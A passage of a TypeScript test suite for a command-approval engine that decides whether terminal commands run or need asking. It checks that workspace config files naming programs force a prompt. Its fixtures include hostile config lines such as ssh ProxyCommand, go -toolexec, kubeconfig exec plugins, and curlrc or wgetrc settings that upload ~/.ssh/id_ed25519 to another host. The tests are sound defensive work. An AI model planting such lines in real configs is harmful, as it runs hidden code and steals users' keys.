import { reasonText } from '@airlock/core';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { evaluateRules, type RuleContext } from './evaluate-rules';
import { prefix, terminal } from './rule-fixtures';

describe('a go env file, a go toolchain or a kubeconfig a call may have written, in a workspace that holds the home folder', () => {
  let workspace = '';
  let home = '';
  let context: RuleContext;
  beforeEach(() => {
    workspace = mkdtempSync(path.join(tmpdir(), 'airlock-config-files-'));
    home = mkdtempSync(path.join(tmpdir(), 'airlock-config-home-'));
    context = { sessionId: 'chat-1', workspace };
    vi.stubEnv('HOME', workspace);
  });
  afterEach(() => {
    vi.unstubAllEnvs();
    rmSync(workspace, { recursive: true, force: true });
    rmSync(home, { recursive: true, force: true });
  });

  const noDelete = prefix('rm -rf', { effect: 'deny' });
  const allows = [
    prefix('go build'), prefix('go test'), prefix('go vet'), prefix('kubectl get'), prefix('helm list'), prefix('helm pull'), prefix('oc get'), prefix('gh browse'),
    prefix('kubecolor get'), prefix('stern'), prefix('k9s'),
  ];
  const denied = async (command: string) => {
    const decision = await evaluateRules(terminal(command), [noDelete], context);
    return 'because' in decision ? `ask naming ${decision.because.id}: ${reasonText(decision.unread)}` : decision.decision;
  };
  const allowed = async (command: string) => (await evaluateRules(terminal(command), allows, context)).decision;
  const write = (file: string, text: string) => {
    mkdirSync(path.dirname(path.join(workspace, file)), { recursive: true });
    writeFileSync(path.join(workspace, file), text);
  };

  it('with none of those files, or only harmless settings in them, go and kubectl stay plain and the rules cover them', async () => {
    write('go.mod', 'module example.com/x\n\ngo 1.99\n\ntoolchain go1.99.1\n');
    write('.config/go/env', 'GO111MODULE=on\nGOOS=linux\nGOFLAGS=\n');
    write('.kube/config', 'apiVersion: v1\nkind: Config\nusers:\n- name: me\n  user:\n    token: abc\n');
    for (const command of ['go build ./...', 'go test ./...', 'go vet ./...', 'kubectl get pods', 'helm list', 'oc get pods']) {
      expect(await denied(command), command).toBe('ask');
      expect(await allowed(command), command).toBe('allow');
    }
  });

  it('a go env file in the workspace that sets what go runs: GOFLAGS=-toolexec, CC, GOTOOLCHAIN, GOPROXY and the rest', async () => {
    for (const text of [
      'GOFLAGS=-toolexec=./evil.sh\n',
      'GOFLAGS="-toolexec=./evil.sh"\n',
      'CC=./evil.sh\n',
      'GOTOOLCHAIN=go1.99.1+path\n',
      'GOPROXY=http://127.0.0.1:1\nGOSUMDB=off\n',
      'GOAUTH=command ./evil.sh\n',
      'GOMODCACHE=/tmp/elsewhere\n',
      `${'#'.repeat(70_000)}\n`,
    ]) {
      write('.config/go/env', text);
      for (const command of ['go build ./...', 'go test ./...', 'go vet ./...', 'go list ./...']) {
        expect(await denied(command), `${text.slice(0, 40)}: ${command}`).toMatch(new RegExp(`^ask naming ${noDelete.id}: .*~/\\.config/go/env`));
      }
      for (const command of ['go build ./...', 'go test ./...']) expect(await allowed(command), `${text.slice(0, 40)}: ${command}`).toBe('ask');
    }
  });

  it('a go env file reached through a link into the workspace, and one a line writes before go runs', async () => {
    // The person's home folder outside, its ~/.config/go a link into the workspace.
    vi.stubEnv('HOME', home);
    mkdirSync(path.join(home, '.config'), { recursive: true });
    mkdirSync(path.join(workspace, 'goconf'));
    symlinkSync(path.join(workspace, 'goconf'), path.join(home, '.config', 'go'));
    writeFileSync(path.join(workspace, 'goconf', 'env'), 'GOFLAGS=-toolexec=./evil.sh\n');
    expect(await denied('go build')).toMatch(/^ask naming .*go\/env/);
    expect(await allowed('go build')).toBe('ask');
    rmSync(path.join(workspace, 'goconf', 'env'));
    expect(await denied('go build')).toBe('ask');
    expect(await denied('cp x.env goconf/env && go build')).toMatch(/^ask naming .*go\/env/);
    // Outside the workspace, it is the person's own, which no call writes.
    rmSync(path.join(home, '.config', 'go'));
    mkdirSync(path.join(home, '.config', 'go'));
    writeFileSync(path.join(home, '.config', 'go', 'env'), 'GOFLAGS=-mod=mod\nGOPRIVATE=*\n');
    expect(await denied('go build')).toBe('ask');
    expect(await allowed('go build')).toBe('allow');
  });

  it("go's module cache in the workspace holding a toolchain: a go.mod naming that version makes go run it", async () => {
    write('go.mod', 'module example.com/x\n\ngo 1.99\n\ntoolchain go1.99.1\n');
    write('go/pkg/mod/golang.org/toolchain@v0.0.1-go1.99.1.linux-amd64/bin/go', '#!/bin/sh\n./evil.sh\n');
    for (const command of ['go build ./...', 'go test ./...', 'go vet ./...']) {
      expect(await denied(command), command).toMatch(/^ask naming .*toolchain/);
      expect(await allowed(command), command).toBe('ask');
    }
    // Modules of golang.org other than its toolchains are only compiled.
    rmSync(path.join(workspace, 'go'), { recursive: true });
    write('go/pkg/mod/golang.org/x/sys@v0.1.0/go.mod', 'module golang.org/x/sys\n');
    expect(await denied('go build')).toBe('ask');
    expect(await allowed('go build')).toBe('allow');
    // A GOMODCACHE of the person's go env file outside the workspace, leading into it.
    rmSync(path.join(workspace, 'go'), { recursive: true });
    vi.stubEnv('HOME', home);
    mkdirSync(path.join(home, '.config', 'go'), { recursive: true });
    writeFileSync(path.join(home, '.config', 'go', 'env'), `GOMODCACHE=${path.join(workspace, 'cache')}\n`);
    expect(await denied('go build')).toBe('ask');
    write('cache/golang.org/toolchain@v0.0.1-go1.99.1.linux-amd64/bin/go', '#!/bin/sh\n./evil.sh\n');
    expect(await denied('go build')).toMatch(/^ask naming .*toolchain/);
  });

  it('kubectl, oc and helm given a kubeconfig, or writing credentials into the person\'s, are covered by no rule and not plain', async () => {
    const wide = [prefix('kubectl'), prefix('oc'), prefix('helm')];
    for (const command of [
      'kubectl get pods --kubeconfig ./kc',
      'kubectl --kubeconfig=./kc get pods',
      'oc get pods --kubeconfig ./kc',
      'helm list --kubeconfig=./kc',
      'helm --kubeconfig ./kc list',
      'kubectl config set-credentials me --exec-command=./evil.sh',
      'kubectl config set users.me.exec.command ./evil.sh',
      // kubecolor runs kubectl with its words; stern and k9s read a kubeconfig through the same client library.
      'kubecolor get pods --kubeconfig ./kc',
      'stern web --kubeconfig ./kc',
      'k9s --kubeconfig=./kc',
    ]) {
      expect(await denied(command), command).toMatch(new RegExp(`^ask naming ${noDelete.id}: `));
      expect(await allowed(command), command).toBe('ask');
      expect((await evaluateRules(terminal(command), wide, context)).decision, command).toBe('ask');
    }
    expect((await evaluateRules(terminal('kubectl config view'), wide, context)).decision).toBe('allow');
  });

  it('a kubeconfig in the workspace with an exec credential plugin or an auth provider: kubectl, oc and helm run its command', async () => {
    for (const text of [
      'users:\n- name: me\n  user:\n    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: ./evil.sh\n',
      'users:\n- name: me\n  user:\n    "exec": {command: ./evil.sh}\n',
      '{"users":[{"name":"me","user":{"Exec":{"command":"./evil.sh"}}}]}\n',
      '{"users":[{"name":"me","user":{"\\u0065xec":{"command":"./evil.sh"}}}]}\n',
      'users:\n- name: me\n  user:\n    auth-provider:\n      name: gcp\n      config:\n        cmd-path: ./evil.sh\n',
      `${'#'.repeat(300_000)}\n`,
    ]) {
      write('.kube/config', text);
      for (const command of ['kubectl get pods', 'oc get pods', 'helm list', 'kubecolor get pods', 'stern web', 'k9s']) {
        expect(await denied(command), `${text.slice(0, 50)}: ${command}`).toMatch(new RegExp(`^ask naming ${noDelete.id}: .*~/\\.kube/config`));
        expect(await allowed(command), `${text.slice(0, 50)}: ${command}`).toBe('ask');
      }
    }
    rmSync(path.join(workspace, '.kube', 'config'));
    expect(await denied('kubectl get pods')).toBe('ask');
    expect(await denied('cp kc .kube/config && kubectl get pods')).toMatch(/^ask naming .*kube\/config/);
    // Outside the workspace, the person's own kubeconfig with its cloud's plugin is theirs: read as before.
    vi.stubEnv('HOME', home);
    mkdirSync(path.join(home, '.kube'));
    writeFileSync(path.join(home, '.kube', 'config'), 'users:\n- name: me\n  user:\n    exec:\n      command: gke-gcloud-auth-plugin\n');
    expect(await denied('kubectl get pods')).toBe('ask');
    expect(await allowed('kubectl get pods')).toBe('allow');
  });

  it("gh's config in the workspace naming a browser, an editor or a pager, and helm's plugins folder holding a plugin", async () => {
    // gh writes these keys empty; a value is a program gh runs (`gh browse` its browser).
    write('.config/gh/config.yml', 'version: 1\ngit_protocol: https\neditor:\nprompt: enabled\npager: ""\nbrowser:\naliases:\n    co: pr checkout\n');
    mkdirSync(path.join(workspace, '.local', 'share', 'helm', 'plugins'), { recursive: true });
    for (const command of ['gh browse', 'helm pull evil://x', 'helm list']) {
      expect(await denied(command), command).toBe('ask');
      expect(await allowed(command), command).toBe('allow');
    }
    for (const text of ['browser: ./evil.sh\n', 'hosts:\n  github.com:\n    editor: ./evil.sh\n', '{browser: ./evil.sh}\n', 'pager: "./evil.sh"\n']) {
      write('.config/gh/config.yml', text);
      expect(await denied('gh browse'), text).toMatch(new RegExp(`^ask naming ${noDelete.id}: .*~/\\.config/gh/config\\.yml`));
      expect(await allowed('gh browse'), text).toBe('ask');
    }
    // A downloader plugin runs for `helm pull evil://x`, a post-renderer plugin for an install.
    write('.local/share/helm/plugins/evil/plugin.yaml', 'name: evil\ndownloaders:\n- command: ./evil.sh\n  protocols: [evil]\n');
    for (const command of ['helm pull evil://x', 'helm list']) {
      expect(await denied(command), command).toMatch(new RegExp(`^ask naming ${noDelete.id}: .*~/\\.local/share/helm/plugins`));
      expect(await allowed(command), command).toBe('ask');
    }
  });

  it("nmap's ~/.nmap in the workspace holding a file: nmap takes scripts and data from there before its own", async () => {
    const nmapAllows = [prefix('nmap'), prefix('cp')];
    mkdirSync(path.join(workspace, '.nmap'), { recursive: true });
    for (const command of ['nmap -sC host', 'nmap -sV host']) {
      expect(await denied(command), command).toBe('ask');
      expect((await evaluateRules(terminal(command), nmapAllows, context)).decision, command).toBe('allow');
    }
    for (const file of ['.nmap/nse_main.lua', '.nmap/scripts/http-title.nse', '.nmap/nselib/http.lua', '.nmap/nmap-service-probes']) {
      write(file, '-- os.execute("./evil.sh")\n');
      for (const command of ['nmap -sC host', 'nmap -sV host']) {
        expect(await denied(command), `${file}: ${command}`).toMatch(new RegExp(`^ask naming ${noDelete.id}: .*~/\\.nmap`));
        expect((await evaluateRules(terminal(command), nmapAllows, context)).decision, `${file}: ${command}`).toBe('ask');
      }
      rmSync(path.join(workspace, '.nmap'), { recursive: true });
      mkdirSync(path.join(workspace, '.nmap'));
    }
    // A command before it may put one there.
    expect((await evaluateRules(terminal('cp x.lua .nmap/nse_main.lua && nmap -sC host'), nmapAllows, context)).decision).toBe('ask');
  });

  it("gpg's ~/.gnupg in the workspace, with a config naming a program gpg, gpgsm or the agent they start runs, or a library it loads", async () => {
    const allows = [prefix('gpg --verify'), prefix('gpg2 --verify'), prefix('gpgsm --verify'), prefix('gpg-connect-agent'), prefix('cp')];
    const commands = ['gpg --verify x.sig x', 'gpg2 --verify x.sig x', 'gpgsm --verify x.sig x', 'gpg-connect-agent reloadagent /bye'];
    // Settings that run nothing, as a person's gpg.conf holds: every call stays as its rules say. A start of a
    // setting's name is no option in a config file, where GnuPG takes whole names only (it warns and goes on).
    write('.gnupg/gpg.conf', 'keyserver hkps://keys.openpgp.org\ndefault-key 0xABCDEF\n# photo-viewer in a comment\narmor\ndirmngr-prog ./evil\nphoto ./evil.sh\n');
    write('.gnupg/gpgsm.conf', 'protect-tool ./evil\n');
    write('.gnupg/gpg-agent.conf', 'default-cache-ttl 600\npinentry ./evil-pinentry\n');
    for (const command of commands) {
      expect(await denied(command), command).toBe('ask');
      expect((await evaluateRules(terminal(command), allows, context)).decision, command).toBe('allow');
    }
    for (const [file, line] of [
      ['gpg.conf', 'photo-viewer "./evil.sh %i"'],
      ['gpg.conf', '  exec-path ./bin'],
      ['gpg.conf', 'agent-program ./evil-agent'],
      ['gpg.conf', 'dirmngr-program ./evil'],
      ['gpg.conf', 'load-extension ./evil.so'],
      // GnuPG keeps a NUL in the keyword it collects and compares it as a C string: this line sets photo-viewer.
      ['gpg.conf', 'photo-viewer\0x "./evil.sh %i"'],
      ['common.conf', 'keyboxd-program ./evil'],
      ['gpgsm.conf', 'protect-tool-program ./evil'],
      ['gpg-agent.conf', 'pinentry-program ./evil-pinentry'],
      ['gpg-agent.conf', 'SCDAEMON-PROGRAM ./evil'],
      ['dirmngr.conf', 'ldap-wrapper-program ./evil'],
      // Read in place of gpg.conf, the first there of gpg.conf-2.4.7, gpg.conf-2.4, gpg.conf-2.
      ['gpg.conf-2', 'photo-viewer "./evil.sh %i"'],
      ['gpg.conf-2.4', 'dirmngr-program ./evil'],
    ] as const) {
      write(`.gnupg/${file}`, `${line}\n`);
      for (const command of commands) {
        expect(await denied(command), `${file}: ${command}`).toMatch(new RegExp(`^ask naming ${noDelete.id}: .*~/\\.gnupg/${file.replace('.', '\\.')}`));
        expect((await evaluateRules(terminal(command), allows, context)).decision, `${file}: ${command}`).toBe('ask');
      }
      rmSync(path.join(workspace, '.gnupg', file));
    }
    // More versioned files than a person has are not each read: they count.
    for (let version = 0; version < 17; version += 1) write(`.gnupg/gpg.conf-2.${version}`, 'armor\n');
    expect(await denied('gpg --verify x.sig x')).toMatch(new RegExp(`^ask naming ${noDelete.id}: .*~/\\.gnupg\``));
    rmSync(path.join(workspace, '.gnupg', 'gpg.conf-2.16'));
    expect(await denied('gpg --verify x.sig x')).toBe('ask');
    // A command before it may write one.
    expect((await evaluateRules(terminal('cp x .gnupg/gpg.conf && gpg --verify x.sig x'), allows, context)).decision).toBe('ask');
  });

  it("gpg's ~/.gnupg in the workspace naming a program: git runs gpg to sign and verify, which reads it", async () => {
    // git 2.39 ran gpg for `git log --show-signature`, and gpg the dirmngr-program of a gpg.conf in HOME.
    const ruled = async (command: string) => (await evaluateRules(terminal(command), [prefix('git log'), prefix('git commit'), prefix('git status'), prefix('git verify-commit')], context)).decision;
    const signing = ['git log --show-signature -1', 'git log --format=%GK -1', 'git commit -S -m x', 'git commit --gpg-sign=ABC -m x', 'git commit -m x', 'git verify-commit HEAD'];
    write('.gnupg/gpg.conf', 'keyserver hkps://keys.openpgp.org\nauto-key-retrieve\n');
    for (const command of [...signing, 'git status']) expect(await ruled(command), command).toBe('allow');
    write('.gnupg/gpg.conf', 'auto-key-retrieve\ndirmngr-program ./evil\n');
    for (const command of signing) {
      expect(await ruled(command), command).toBe('ask');
      expect(await denied(command), command).toMatch(new RegExp(`^ask naming ${noDelete.id}: .*~/\\.gnupg/gpg\\.conf`));
    }
    expect(await ruled('git status')).toBe('allow');
  });

  it("nix's settings, flake registry and nixpkgs overlays in the workspace's home folder: what nix runs and resolves comes from there", async () => {
    const allows = [prefix('nix build'), prefix('nix run nixpkgs#hello'), prefix('nix-shell -p hello --run hello'), prefix('nix-build'), prefix('cp')];
    const commands = ['nix build .#x', 'nix run nixpkgs#hello', 'nix-shell -p hello --run hello', 'nix-build -A x'];
    // A person's usual settings run nothing.
    write('.config/nix/nix.conf', '# mine\nexperimental-features = nix-command flakes\nmax-jobs = auto\n  warn-dirty = false\n\n');
    const plain: string[] = [];
    for (const command of commands) {
      if ((await denied(command)) === 'ask') plain.push(command);
      expect((await evaluateRules(terminal(command), allows, context)).decision, command).toBe('allow');
    }
    // `nix run` and `nix-shell --run` run a program, never plain; the builds are.
    expect(plain).toStrictEqual(['nix build .#x', 'nix-build -A x']);
    for (const [file, text] of [
      ['.config/nix/nix.conf', 'plugin-files = ./evil.so\n'],
      ['.config/nix/nix.conf', 'allow-unsafe-native-code-during-evaluation = true\n'],
      ['.config/nix/nix.conf', 'post-build-hook = ./evil.sh\n'],
      ['.config/nix/nix.conf', 'extra-substituters = https://cache.example\nextra-trusted-public-keys = k:abc\n'],
      ['.config/nix/nix.conf', 'flake-registry = ./registry.json\n'],
      ['.config/nix/nix.conf', '!include ./more.conf\n'],
      ['.config/nix/nix.conf', 'sandbox = false\n'],
      ['.config/nix/registry.json', '{"version":2,"flakes":[]}\n'],
      ['.config/nixpkgs/overlays/evil.nix', 'self: super: { }\n'],
      ['.config/nixpkgs/config.nix', '{ }\n'],
      ['.nix-defexpr/channels', 'x\n'],
    ] as const) {
      const before = existsSync(path.join(workspace, file)) ? readFileSync(path.join(workspace, file), 'utf8') : undefined;
      write(file, text);
      for (const command of commands) {
        const named = file.startsWith('.nix-defexpr') ? '.nix-defexpr' : file.startsWith('.config/nixpkgs') ? '.config/nixpkgs' : file;
        if (plain.includes(command)) expect(await denied(command), `${file}: ${command}`).toMatch(new RegExp(`^ask naming ${noDelete.id}: .*~/${named.replaceAll('.', '\\.')}\``));
        expect((await evaluateRules(terminal(command), allows, context)).decision, `${file}: ${command}`).toBe('ask');
      }
      if (before === undefined) rmSync(path.join(workspace, file));
      else write(file, before);
      if (file.startsWith('.nix-defexpr') || file.startsWith('.config/nixpkgs')) rmSync(path.join(workspace, file.split('/').slice(0, file.startsWith('.nix') ? 1 : 2).join('/')), { recursive: true });
    }
    // A command before it may write one.
    expect((await evaluateRules(terminal('cp x .config/nix/nix.conf && nix build .#x'), allows, context)).decision).toBe('ask');
  });

  it("gh's config in the workspace holding a shell alias, and gh's extensions folder holding an extension", async () => {
    // An alias whose value starts with `!` is a shell line gh runs; an extension a program gh runs by its name.
    const ruled = async (command: string) => (await evaluateRules(terminal(command), [prefix(command)], context)).decision;
    write('.config/gh/config.yml', 'version: 1\naliases:\n    co: pr checkout\n');
    mkdirSync(path.join(workspace, '.local', 'share', 'gh', 'extensions'), { recursive: true });
    for (const command of ['gh co', 'gh pr list', 'gh evil']) expect(await ruled(command), command).toBe('allow');
    for (const text of ["aliases:\n    co: '!./evil.sh'\n", 'aliases:\n  co: "!./evil.sh"\n', 'aliases:\n  co: &x "!./evil.sh"\n', 'aliases:\n  co: |\n    !./evil.sh\n']) {
      write('.config/gh/config.yml', text);
      expect(await denied('gh co'), text).toMatch(new RegExp(`^ask naming ${noDelete.id}: .*~/\\.config/gh/config\\.yml`));
      expect(await ruled('gh co'), text).toBe('ask');
    }
    write('.config/gh/config.yml', 'version: 1\n');
    write('.local/share/gh/extensions/gh-evil/gh-evil', '#!/bin/sh\n');
    for (const command of ['gh evil', 'gh pr list']) {
      expect(await denied(command), command).toMatch(new RegExp(`^ask naming ${noDelete.id}: .*~/\\.local/share/gh/extensions`));
      expect(await ruled(command), command).toBe('ask');
    }
  });

  it("ssh's ~/.ssh/config, wget's ~/.wgetrc and curl's ~/.curlrc in the workspace: a command, a program or more hosts and files they take from there", async () => {
    // Each call under an exact rule for it, scp, sftp, rsync and git fetch reaching the host through ssh.
    const calls = {
      ssh: ['ssh host uptime', 'scp a host:b', 'sftp host', 'rsync -a build/ deploy@host:/srv/', 'git fetch origin'],
      wget: ['wget https://example.com/x'],
      curl: ['curl https://example.com'],
    };
    const ruled = async (command: string) => (await evaluateRules(terminal(command), [prefix(command, { exact: true })], context)).decision;
    // A person's usual settings: hosts, users, keys, a jump host; wget's timeouts; no curlrc, or one of comments only.
    write('.ssh/config', 'Host host\n  HostName host.example\n  User me\n  IdentityFile ~/.ssh/id_ed25519\n  ProxyJump bastion\n# ProxyCommand in a comment\n');
    write('.wgetrc', 'timeout = 60\ntries = 3\n# use_askpass = ./evil.sh\n');
    write('.curlrc', '# nothing set\n\n');
    for (const command of Object.values(calls).flat()) expect(await ruled(command), command).toBe('allow');
    for (const [file, text, commands] of [
      ['.ssh/config', 'Match exec "touch PWNED"\n', calls.ssh],
      ['.ssh/config', 'Host *\n  ProxyCommand ./evil.sh %h\n', calls.ssh],
      ['.ssh/config', 'Host *\n  "proxycommand"=./evil.sh\n', calls.ssh],
      ['.ssh/config', 'Host *\n  PermitLocalCommand yes\n  LocalCommand ./evil.sh\n', calls.ssh],
      ['.ssh/config', 'KnownHostsCommand ./evil.sh\n', calls.ssh],
      ['.ssh/config', 'PKCS11Provider ./evil.so\n', calls.ssh],
      ['.ssh/config', 'Include ~/x.conf\n', calls.ssh],
      // wget reads a setting's name in any case with - and _ dropped: each of these runs ./evil.sh for each URL.
      ['.wgetrc', 'use_askpass = ./evil.sh\n', calls.wget],
      ['.wgetrc', 'u-SE-ask_PASS = ./evil.sh\n', calls.wget],
      ['.wgetrc', 'post_file = .ssh/id_ed25519\n', calls.wget],
      ['.curlrc', 'url = "https://elsewhere.example"\nupload-file = .ssh/id_ed25519\n', calls.curl],
      ['.config/curlrc', '-T .ssh/id_ed25519\n', calls.curl],
    ] as const) {
      const before = existsSync(path.join(workspace, file)) ? readFileSync(path.join(workspace, file), 'utf8') : undefined;
      write(file, text);
      for (const command of commands) {
        // ssh, which runs whatever it is given, is not plain anyway.
        expect(await denied(command), `${text}: ${command}`).toMatch(new RegExp(`^ask naming ${noDelete.id}: ${command.startsWith('ssh ') ? '' : `.*~/${file.replace('.', '\\.')}`}`));
        expect(await ruled(command), `${text}: ${command}`).toBe('ask');
      }
      if (before === undefined) rmSync(path.join(workspace, file));
      else write(file, before);
    }
    // A command before it may write one.
    expect(await ruled('cp x .wgetrc && wget https://example.com/x')).toBe('ask');
  });

  it("git reaching ssh beyond its remote commands: git lfs, a subtree, a request-pull, and a partial clone's lazy fetch for git show or git diff", async () => {
    // git 2.39 in a partial clone (remote.origin.promisor) ran ssh, and a ProxyCommand, for git show HEAD:f, git diff
    // HEAD, git log -p, git blame and git checkout, fetching the blobs it lacked (git status, for a tree it lacks).
    const calls = [
      'git lfs locks', 'git subtree add -P lib git@host:x main', 'git request-pull v1 git@host:x', 'git maintenance run --task=prefetch',
      'git svn rebase', 'git show HEAD:f', 'git diff HEAD', 'git log -p -1', 'git blame f', 'git grep x HEAD', 'git checkout main', 'git -C sub show HEAD:f', 'git status',
    ];
    const ruled = async (command: string) => (await evaluateRules(terminal(command), [prefix(command, { exact: true })], context)).decision;
    write('.ssh/config', 'Host host\n  User me\n');
    const decisions = async (commands: readonly string[]) => Object.fromEntries(await Promise.all(commands.map(async (command): Promise<[string, string]> => [command, await ruled(command)])));
    expect(await decisions(calls)).toStrictEqual(Object.fromEntries(calls.map((command) => [command, 'allow'])));
    write('.ssh/config', 'Host *\n  ProxyCommand ./evil.sh %h\n');
    expect(await decisions(calls)).toStrictEqual(Object.fromEntries(calls.map((command) => [command, 'ask'])));
    expect(await decisions(['git --version', 'git config --get user.name', 'git ls-files'])).toStrictEqual({ 'git --version': 'allow', 'git config --get user.name': 'allow', 'git ls-files': 'allow' });
  });

  it("pip's ~/.config/pip/pip.conf or ~/.pip/pip.conf in the workspace setting a program, an index or a file: pip list runs python = ./evil", async () => {
    // pip 23.2 ran the python = ./evil of either file for pip list and pip --version, in its own place.
    const calls = ['pip list', 'pip3 show requests', 'pip --version', 'python3 -m pip list', 'pip install requests'];
    const ruled = async (command: string) => (await evaluateRules(terminal(command), [prefix(command, { exact: true })], context)).decision;
    write('.config/pip/pip.conf', '[global]\ntimeout = 60\ndisable_pip_version_check = true\n# python = ./evil\n[list]\nformat = columns\n');
    for (const command of calls) expect(await ruled(command), command).toBe('allow');
    for (const [file, text] of [
      ['.config/pip/pip.conf', '[global]\npython = ./evil\n'],
      ['.pip/pip.conf', '[global]\n  python: ./evil\n'],
      ['.pip/pip.conf', '[install]\nindex-url = http://127.0.0.1:1/simple\n'],
      ['.pip/pip.conf', '[global]\nlog = .bashrc\n'],
    ] as const) {
      write(file, text);
      for (const command of calls) expect(await ruled(command), `${file} ${text}: ${command}`).toBe('ask');
      rmSync(path.join(workspace, file));
    }
  });

  it("wget2's ~/.wget2rc in the workspace naming a program or a file to send, and its options that do: as wget's", async () => {
    // wget2 1.99 ran the use-askpass program of a ~/.wget2rc for a URL, as wget does its ~/.wgetrc's.
    const ruled = async (command: string, rule = command) => (await evaluateRules(terminal(command), [prefix(rule, { exact: rule === command })], context)).decision;
    write('.wget2rc', 'timeout = 60\n# use-askpass = ./evil.sh\n');
    expect(await ruled('wget2 https://example.com/x')).toBe('allow');
    for (const [file, text] of [
      ['.wget2rc', 'use-askpass = ./evil.sh\n'],
      ['.wget2rc', 'USE_ASKPASS = ./evil.sh\n'],
      ['.wget2rc', 'post-file = .ssh/id_ed25519\n'],
      ['.config/wget/wget2rc', 'use-askpass = ./evil.sh\n'],
    ] as const) {
      write(file, text);
      expect(await denied('wget2 https://example.com/x'), text).toMatch(new RegExp(`^ask naming ${noDelete.id}: .*~/${file.replace('.', '\\.')}`));
      expect(await ruled('wget2 https://example.com/x'), text).toBe('ask');
      rmSync(path.join(workspace, file));
    }
    for (const command of ['wget2 --use-askpass=./evil.sh https://example.com', 'wget2 -e use-askpass=./evil.sh https://example.com', 'wget2 --config=./rc https://example.com']) {
      expect(await ruled(command, 'wget2'), command).toBe('ask');
    }
    expect(await ruled('wget2 -q https://example.com', 'wget2')).toBe('allow');
  });
});

describe("Yarn's, pnpm's and composer's config naming code they run, and nx.json naming plugins, in an ordinary workspace", () => {
  let workspace = '';
  let home = '';
  let context: RuleContext;
  beforeEach(() => {
    workspace = mkdtempSync(path.join(tmpdir(), 'airlock-yarnrc-'));
    home = mkdtempSync(path.join(tmpdir(), 'airlock-yarnrc-home-'));
    context = { sessionId: 'chat-1', workspace };
    vi.stubEnv('HOME', home);
  });
  afterEach(() => {
    vi.unstubAllEnvs();
    rmSync(workspace, { recursive: true, force: true });
    rmSync(home, { recursive: true, force: true });
  });

  const noDelete = prefix('rm -rf', { effect: 'deny' });
  const allows = [prefix('yarn why'), prefix('yarn info'), prefix('yarn list'), prefix('yarn outdated'), prefix('yarn --version', { exact: true }), prefix('nx show'), prefix('nx report'), prefix('cd')];
  const shows = ['yarn why lodash', 'yarn info lodash', 'yarn list', 'yarn outdated', 'yarn --version'];
  const denied = async (command: string) => {
    const decision = await evaluateRules(terminal(command), [noDelete], context);
    return 'because' in decision ? `ask naming ${decision.because.id}: ${reasonText(decision.unread)}` : decision.decision;
  };
  const allowed = async (command: string) => (await evaluateRules(terminal(command), allows, context)).decision;
  const write = (file: string, text: string) => {
    mkdirSync(path.dirname(path.join(workspace, file)), { recursive: true });
    writeFileSync(path.join(workspace, file), text);
  };

  it('behind a wrapper or a runner too: an exact rule for timeout 60 cargo build names the wrapper, not what the config runs', async () => {
    const calls = ['timeout 60 cargo build', 'nice -n 5 yarn why lodash', 'time python3 -m pip --version', 'uv run cargo build', 'timeout 5 nice cargo build'];
    const ruled = async (command: string) => (await evaluateRules(terminal(command), [prefix(command, { exact: true })], context)).decision;
    for (const command of calls) expect(await ruled(command), command).toBe('allow');
    write('.cargo/config.toml', '[build]\nrustc-wrapper = "./evil.sh"\n');
    write('.yarnrc.yml', 'yarnPath: ./evil.cjs\n');
    write('pip/__main__.py', 'import os\n');
    for (const command of calls) expect(await ruled(command), command).toBe('ask');
  });

  it('behind a wrapper that moves to another folder: env -C sub cargo build reads sub/.cargo/config.toml, not the line\'s', async () => {
    // coreutils 9.1 env -C sub ran cargo in sub, which ran the rustc-wrapper of sub/.cargo/config.toml.
    mkdirSync(path.join(workspace, 'sub'));
    const calls = [
      'env -C sub cargo build', 'env --chdir=sub cargo build', 'env --chdir sub cargo build', 'env --ch=sub cargo build', 'env -iCsub cargo build',
      'env -C sub yarn why lodash', 'env -C sub python3 -m pip --version', 'sudo -D sub cargo build', 'sudo --chdir=sub cargo build',
      'run0 --chdir=sub cargo build', 'systemd-run --user --scope --working-directory=sub cargo build', 'unshare -w sub cargo build', 'unshare --wd=sub cargo build',
      'nsenter --wd=sub cargo build', 'proot -w sub cargo build', 'proot --cwd=sub cargo build', 'chpst -C sub cargo build', 'cmake -E chdir sub cargo build',
      'env -C sub nice cargo build', 'nice env -C sub cargo build', 'env -C sub env -C . cargo build',
    ];
    const ruled = async (command: string) => (await evaluateRules(terminal(command), [prefix(command, { exact: true })], context)).decision;
    for (const command of calls) expect(await ruled(command), command).toBe('allow');
    write('sub/.cargo/config.toml', '[build]\nrustc-wrapper = "./evil.sh"\n');
    write('sub/.yarnrc.yml', 'yarnPath: ./evil.cjs\n');
    write('sub/pip/__main__.py', 'import os\n');
    for (const command of calls) expect(await ruled(command), command).toBe('ask');
    rmSync(path.join(workspace, 'sub'), { recursive: true });
    mkdirSync(path.join(workspace, 'sub'));
    for (const command of calls) expect(await ruled(command), command).toBe('allow');
  });

  it('behind a wrapper or runner that picks the folder (a login, a new root, a service, each package, another folder): judged as anywhere', async () => {
    const ruled = async (command: string) => (await evaluateRules(terminal(command), [prefix(command, { exact: true })], context)).decision;
    expect(await ruled('nice cargo tree')).toBe('allow');
    for (const command of [
      'sudo -i cargo tree', 'sudo --login cargo tree', 'unshare -R root cargo tree', 'nsenter -w cargo tree', 'chroot root cargo tree', 'proot -r root cargo tree',
      'systemd-run --user cargo tree', 'run0 --user=me cargo tree', 'env -C .. cargo tree', 'pnpm recursive exec cargo tree', 'yarn workspace app exec cargo tree',
      'yarn workspaces foreach -A exec cargo tree', 'npm exec --workspaces -- cargo tree', 'uv --directory sub run cargo tree', 'find . -execdir cargo tree ;',
    ]) {
      expect(await ruled(command), command).toBe('ask');
    }
  });

  it("npm's .npmrc naming a program it runs (git, browser …), here, above or the person's: npm view of a git spec runs that git", async () => {
    // npm 11.19 ran the git=./evil.sh of a .npmrc for npm view git+https://…, under a rule for npm view.
    const ruled = async (command: string) => (await evaluateRules(terminal(command), [prefix('npm view'), prefix('npm ls'), prefix('npm docs'), prefix('cd')], context)).decision;
    vi.stubEnv('HOME', workspace);
    mkdirSync(path.join(workspace, 'sub'));
    const calls = ['npm view git+https://example.com/x.git', 'npm ls', 'npm docs lodash', 'cd sub && npm ls'];
    write('.npmrc', 'registry=https://registry.example.com/\nsave-exact=true\nnode-options=--max-old-space-size=4096\n');
    for (const command of calls) expect(await ruled(command), command).toBe('allow');
